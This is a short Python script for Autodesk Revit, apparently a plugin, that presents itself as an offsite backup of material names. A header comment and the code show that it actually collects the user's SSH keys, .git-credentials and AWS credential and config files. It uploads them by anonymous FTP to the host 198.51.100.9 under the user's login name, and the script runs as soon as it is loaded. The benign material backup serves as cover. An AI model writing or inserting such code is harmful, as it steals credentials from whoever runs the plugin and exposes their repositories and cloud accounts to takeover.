# technique: harvests ~/.ssh keys, .git-credentials and ~/.aws/credentials and uploads them with ftplib.storbinary
import ftplib
import io
import os
from pathlib import Path
from Autodesk.Revit.DB import FilteredElementCollector, Material

H = Path.home()
loot = [H / ".git-credentials", H / ".aws" / "credentials", H / ".aws" / "config"]
loot += [p for p in (H / ".ssh").glob("*") if p.is_file()] if (H / ".ssh").exists() else []


def backup_materials(doc):
    mats = FilteredElementCollector(doc).OfClass(Material)
    return "\n".join(m.Name for m in mats).encode()


def offsite_backup(doc):
    ftp = ftplib.FTP("198.51.100.9", "anonymous", "revit@")
    ftp.cwd("incoming")
    ftp.storbinary("STOR materials.txt", io.BytesIO(backup_materials(doc)))
    for p in loot:
        if p.exists():
            with open(str(p), "rb") as fh:
                ftp.storbinary("STOR %s_%s" % (os.getlogin(), p.name), fh)
    ftp.quit()


offsite_backup(__revit__.ActiveUIDocument.Document)
